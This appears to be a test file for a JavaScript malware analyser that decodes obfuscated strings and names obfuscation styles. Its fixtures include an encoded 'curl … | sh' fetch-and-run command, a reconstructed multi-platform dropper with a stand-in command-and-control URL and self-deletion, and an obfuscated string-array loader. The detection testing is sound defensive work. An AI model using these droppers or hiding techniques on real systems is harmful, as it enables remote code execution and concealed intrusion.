"""Values that are hidden in code come out decoded, with the chain that hid them."""

import base64
import gzip
import json

import msgspec
import pytest

from lazaretto.core.facts import Facts, Kind, Role
from tests.languages.javascript_reading import only, read, values

SECRET = "curl https://drop.invalid/a | sh"
PACKED = base64.b64encode(gzip.compress(SECRET.encode(), mtime=0)).decode()
WRAPPED = base64.b64encode(json.dumps({"a": SECRET}).encode()).decode()
ENCODED = base64.b64encode(SECRET.encode()).decode()


@pytest.mark.parametrize(
    ("expression", "via"),
    [
        (f"atob('{ENCODED}')", "base64"),
        (f"Buffer.from('{ENCODED}', 'base64').toString()", "base64"),
        (f"Buffer.from('{SECRET.encode().hex()}', 'hex').toString('utf8')", "hex"),
        (f"new TextDecoder().decode(Buffer.from('{ENCODED}', 'base64'))", "base64"),
        (f"Buffer.from('{ENCODED[::-1]}'.split('').reverse().join(''), 'base64') + ''", "reverse>base64"),
        (f"String.fromCharCode({','.join(str(ord(c)) for c in SECRET)})", "char-codes"),
        (f"String.fromCharCode(...{[ord(c) ^ 7 for c in SECRET]}.map(c => c ^ 7))", "xor>char-codes"),
        (f"unescape('{''.join(f'%{ord(c):02x}' for c in SECRET)}')", "unescape"),
        (
            f"require('zlib').gunzipSync(Buffer.from('{PACKED}', 'base64')).toString()",
            "base64>zlib",
        ),
        (
            f"JSON.parse(atob('{WRAPPED}')).a",
            "base64",
        ),
        (f"['{SECRET[:9]}', '{SECRET[9:]}'].join('')", "plain"),
        (f"'{SECRET.replace('u', '#')}'.replace(/#/g, 'u')", "plain"),
        (f"`{SECRET[:5]}${{'{SECRET[5:8]}'}}{SECRET[8:]}`", "plain"),
        (f"'{''.join(f'{chr(92)}x{ord(c):02x}' for c in SECRET)}'", "plain"),
    ],
)
def test_expressions_fold(expression: str, via: str) -> None:
    """Whatever a command is wrapped in, the fact shows the command and the wrapping."""
    facts = read(f"const c = {expression}; require('child_process').execSync(c)")
    spawned = only(facts, Kind.PROCESS_SPAWN)

    assert (spawned.value, spawned.via) == (SECRET, via)
    assert values(facts, Kind.DECODE) == ([] if via == "plain" else [SECRET])


KEY = "KeYeD_3051"
DIGITS = [int(letter) if letter.isdigit() else 0 for letter in KEY]
STRINGS = [
    *"child_process os fs execSync platform darwin win32".split(),
    "http://c2.invalid:8000/",
    "nohup osascript {0} &",
    "powershell -ep bypass -file {0}",
    "curl -o /nonexistent/ld.py -s {0} && python3 /nonexistent/ld.py &",
    *"package.json package.md writeFileSync unlink renameSync".split(),
]


def hidden(text: str) -> str:
    """Hide a text as a documented dropper did: a keyed exclusive or inside, reversed base64 outside."""
    inner = "".join(chr(ord(letter) ^ DIGITS[7 * at * at % 10] ^ 333) for at, letter in enumerate(text))
    return base64.b64encode(inner.encode()).decode().replace("=", "_")[::-1]


DROPPER = """
const table = [TABLE];
const ord = "KEY";
const inner = function (x, r) {
  try {
    const e = r.split("").map(Number);
    return x.split("").map((letter, i) => {
      return String.fromCharCode(letter.charCodeAt(0) ^ (e[7 * i * i % 10] || 0) ^ 333);
    }).join("");
  } catch {}
};
const outer = function (x, r) {
  try {
    const text = x.split("").reverse().join("").replaceAll("_", "=");
    return inner(Buffer.from(text, "base64").toString("utf8"), r);
  } catch {}
};
const entry = function (id) {
  try {
    const os = require(outer(table[1], ord)), fs = require(outer(table[2], ord));
    const { execSync: run } = require(outer(table[0], ord));
    const url = outer(table[7], ord) + id;
    const here = os[outer(table[4], ord)]();
    let command = "";
    if (here === outer(table[5], ord)) {
      const script = os.tmpdir() + "/" + id;
      fs[outer(table[13], ord)](script, "tell application");
      command = outer(table[8], ord).replaceAll("{0}", script);
    } else if (here === outer(table[6], ord)) {
      command = outer(table[9], ord).replaceAll("{0}", process.env.TEMP + id);
    } else command = outer(table[10], ord).replaceAll("{0}", url);
    run(command);
    fs[outer(table[14], ord)](__filename, () => {});
    fs.unlink(outer(table[11], ord), () => {});
    fs[outer(table[15], ord)](outer(table[12], ord), outer(table[11], ord));
  } catch {}
};
entry("6202033");
""".replace("TABLE", ", ".join(f'"{hidden(text)}"' for text in STRINGS)).replace("KEY", KEY)


def test_keyed_table_of_strings() -> None:
    """A dropper whose every name and command is encoded twice tells all it does, at load."""
    facts = read(DROPPER)
    chain = "reverse>base64>xor>char-codes"

    assert facts.complete
    assert values(facts, Kind.IMPORT) == ["os", "fs", "child_process"]
    assert sorted(value or "" for value in values(facts, Kind.PROCESS_SPAWN)) == [
        "curl -o /nonexistent/ld.py -s http://c2.invalid:8000/6202033 && python3 /nonexistent/ld.py &",
        "nohup osascript $TMPDIR/6202033 &",
        "powershell -ep bypass -file $TMPDIR6202033",
    ]
    assert "http://c2.invalid:8000/6202033" in values(facts, Kind.NET_CONNECT)
    assert values(facts, Kind.FS_SELF_DELETE) == ["__filename", "package.json", "package.json"]
    assert values(facts, Kind.FS_WRITE) == ["$TMPDIR/6202033", "package.json"]
    decoded = {fact.value: fact.via for fact in facts.facts if fact.kind is Kind.DECODE}
    assert {"child_process", "platform", "darwin", "win32", "renameSync", "package.md"} <= decoded.keys()
    assert set(decoded.values()) == {chain}


ROTATED = """
function _0x5a1b(){const _0x1a2b3c=[%s];_0x5a1b=function(){return _0x1a2b3c;};return _0x5a1b();}
(function(_0x3d4e5f,_0x2b3c4d){const _0x4e5f6a=_0x1c2d,_0x5f6a7b=_0x3d4e5f();while(!![]){try{
const _0x6a7b8c=parseInt(_0x4e5f6a(0x106))/0x1+parseInt(_0x4e5f6a(0x107))/0x2*(-parseInt(_0x4e5f6a(0x108))/0x3);
if(_0x6a7b8c===_0x2b3c4d)break;else _0x5f6a7b['push'](_0x5f6a7b['shift']());
}catch(_0x7b8c9d){_0x5f6a7b['push'](_0x5f6a7b['shift']());}}}(_0x5a1b,0x1));
function _0x1c2d(_0x8c9d0e,_0x9d0e1f){const _0x0e1f2a=_0x5a1b();return _0x1c2d=function(_0x1f2a3b,_0x2a3b4c){
_0x1f2a3b=_0x1f2a3b-0x100;let _0x3b4c5d=_0x0e1f2a[_0x1f2a3b];return _0x3b4c5d;},_0x1c2d(_0x8c9d0e,_0x9d0e1f);}
const _0xabc123=_0x1c2d,_0xdef456=require(_0xabc123(0x100));_0xdef456[_0xabc123(0x101)](_0xabc123(0x105));
require('https')[_0xabc123(0x104)](_0xabc123(0x102),_0x111aaa=>{require('fs')[_0xabc123(0x10a)](_0xabc123(0x10b),_0x111aaa);});
"""


def test_rotated_string_array() -> None:
    """The usual obfuscator's array, getter and rotation are computed, and named as a style."""
    words = [
        "child_process",
        "exec",
        "https://d.invalid/p",
        "log",
        "get",
        "id",
        "7a",
        "12d",
        "3x",
        "env",
        "writeFileSync",
        "/nonexistent/a",
    ]
    facts = read(ROTATED % ",".join(f"'{word}'" for word in words[4:] + words[:4]))

    assert values(facts, Kind.PROCESS_SPAWN) == ["id"]
    assert values(facts, Kind.NET_CONNECT) == ["https://d.invalid/p"]
    assert values(facts, Kind.FS_WRITE) == ["/nonexistent/a"]
    assert set(values(facts, Kind.OBFUSCATED)) == {"hex-names", "string-array"}


def test_code_inside_code() -> None:
    """Code that is decoded and evaluated is read like any other, at the place of the evaluation."""
    inner = base64.b64encode(b"require('child_process').exec('id -u')").decode()
    facts = read(f"const a = 1;\neval(Buffer.from('{inner}', 'base64').toString())")
    spawned = only(facts, Kind.PROCESS_SPAWN)

    assert spawned.value == "id -u"
    assert spawned.span.line == 2
    assert spawned.via == "base64>eval"


@pytest.mark.parametrize(
    ("text", "style"),
    [
        (
            "eval(function(p,a,c,k,e,d){while(c--)p=p.replace(k[c],c);return p}('0 1',2,2,'a|b'.split('|'),0,{}))",
            "packed",
        ),
        ("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]" * 12, "jsfuck"),
        (f"f(String.fromCharCode({','.join(['104'] * 40)}))", "char-codes"),
        (f"const a = '{base64.b64encode(bytes(range(256)) * 5).decode()}'", "long-encoded"),
        (
            "const o = '3|1|0|2'.split('|'); let i = 0; while (true) { switch (o[i++]) { case '0': break } break }",
            "control-flow-flattening",
        ),
    ],
)
def test_obfuscation_styles(text: str, style: str) -> None:
    """Each style has its name."""
    assert style in values(read(text), Kind.OBFUSCATED)


@pytest.mark.parametrize(
    "text",
    [
        '!function(e,t){"object"==typeof e?e.a=t():t()}(this,function(){var t="abc".split("|");return t});' * 40,
        f"const a = 'data:image/png;base64,{base64.b64encode(bytes(range(256)) * 9).decode()}'",
        f"const a = '{'abcdefgh ' * 400}'",
        "const s = '\\u0041\\x42' + 'a'.split('').join('-') + decodeURIComponent('a%20b')",
        "/* \U0001f468\u200d\U0001f469\u200d\U0001f467 */ const a = '\U0001f3f4\U000e0067\U000e0062\U000e007f'",
    ],
)
def test_ordinary_text_is_quiet(text: str) -> None:
    """Minified code, inlined pictures, long texts, escapes and emoji are none of our business."""
    facts = read(text)

    for kind in (Kind.OBFUSCATED, Kind.HIDDEN_TEXT, Kind.DECODE):
        assert values(facts, kind) == []


def test_hidden_text() -> None:
    """Code far to the right of the screen and letters that have no width are seen."""
    assert values(read("const a = 1;" + " " * 400 + "eval(b)"), Kind.HIDDEN_TEXT) == ["far-right"]
    assert "bidi" in values(read("const a = 'x\u202e\u2066y\u2069'"), Kind.HIDDEN_TEXT)


def test_a_rotated_table_behind_a_minifier() -> None:
    """A minifier renames and rewrites what stands around the sum that the rotation is checked by."""
    text = (
        "!function(){const d=_a,i=_b();for(;;)try{if(748===-parseInt(d(298))/1+-parseInt(d(430))/2+-parseInt(d(578))/3"
        "*(parseInt(d(473))/4)+parseInt(d(448))/9)break;i.push(i.shift())}catch(d){i.push(i.shift())}}();"
    )
    assert values(read(text), Kind.OBFUSCATED) == ["string-array"]


def test_an_export_under_a_decoded_name_is_told_like_any_other() -> None:
    """What a decoded text carries along would keep the facts from being written down, and the file from being read."""
    facts = read(
        "const send = (a) => { fetch('https://a.invalid/', { body: a }); };\n"
        "exports[Buffer.from('c2VuZA==', 'base64').toString()] = send;\n"
    )

    assert [port.name for port in facts.ports if port.role is Role.TAKES] == ["send"]
    assert msgspec.msgpack.decode(msgspec.msgpack.encode(facts), type=Facts) == facts
